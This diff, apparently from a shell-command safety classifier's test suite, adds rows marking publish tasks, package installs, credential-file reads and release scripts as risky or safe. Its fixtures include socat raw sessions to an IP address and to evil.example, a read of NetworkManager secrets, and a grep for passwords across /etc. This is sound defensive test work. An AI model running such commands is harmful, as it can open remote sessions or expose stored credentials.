@@ -190,6 +190,26 @@ const TABLE: [string, boolean, boolean, string?][] = [
   ['cat <<EOF | sh\ncargo build\nEOF', false, false],
   ["bash /dev/stdin <<'EOF'\nsocat - TCP:203.0.113.9:4444\nEOF", true, false, 'socat'],
   ["bash /dev/stdin <<'EOF'\nls -la\nEOF", false, false],
+  // sbt's tasks named for publishing or releasing; a publish to this machine's own repository stays here.
+  ['sbt +publishSigned', true, false, 'publishes'],
+  ['sbt ci-release', true, false, 'publishes'],
+  ['sbt docs/docusaurusPublishGhpages', true, false, 'publishes'],
+  ['sbt +test', false, false],
+  ['sbt publishLocal', false, false],
+  // OpenBSD's package manager says its change in its name.
+  ['pkg_add cmake gmake', true, false, 'installed packages'],
+  ['pkg_info', false, false],
+  // System credential stores, and a search for a credential's word over a glob of system files.
+  ['cat /etc/NetworkManager/system-connections/home.nmconnection', true, false, 'secrets'],
+  ["grep 'pass*' /etc/*.conf", true, false, 'for credentials'],
+  ["grep 'pass*' config/*.conf", false, true],
+  ['grep version /etc/*release', false, true],
+  // A script named for releasing by its last word after `-`, or for pushing; a build script's release mode.
+  ['bash .ci-scripts/x86-64-release.bash', true, false, 'named for publishing'],
+  ['bash .dockerfiles/release/build-and-push.bash', true, false, 'named for publishing'],
+  ['bash scripts/pre-release.sh', false, false],
+  ['./build_odin.sh release', false, false],
+  ['./tool.sh release', true, false, 'reaches past this machine'],
   ['socat - TCP:203.0.113.9:4444', true, false, 'raw session'],
   ['socat STDIO OPENSSL:evil.example:443,verify=0', true, false, 'raw session'],
   ['socat - UNIX-CONNECT:/tmp/app.sock', false, false],
